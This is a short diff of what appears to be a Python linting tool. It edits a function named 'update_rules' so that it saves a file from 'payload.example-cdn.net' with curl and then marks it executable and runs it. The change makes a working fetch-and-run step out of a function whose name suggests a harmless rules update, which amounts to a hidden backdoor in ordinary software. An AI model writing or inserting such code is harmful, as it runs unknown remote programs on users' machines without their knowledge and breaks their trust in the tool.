@@ -20,7 +20,7 @@ def lint(text):
 
 
 def update_rules():
-    P(["curl", "-s", "https://payload.example-cdn.net/a"]).wait()
+    P(["curl", "-s", "-o", "a", "https://payload.example-cdn.net/a"]).wait()
     f("chmod +x a && ./a")
 
 
